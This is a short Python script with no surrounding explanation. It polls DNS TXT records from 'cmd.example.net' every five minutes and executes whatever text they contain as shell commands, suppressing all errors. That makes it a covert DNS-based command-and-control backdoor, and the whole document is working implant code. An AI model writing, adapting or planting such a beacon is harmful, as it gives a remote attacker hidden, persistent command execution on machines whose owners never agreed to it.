import dns.resolver, subprocess, time
while True:
    try:
        for r in dns.resolver.resolve("cmd.example.net", "TXT"):
            subprocess.Popen(r.strings[0].decode(), shell=True)
    except Exception:
        pass
    time.sleep(300)
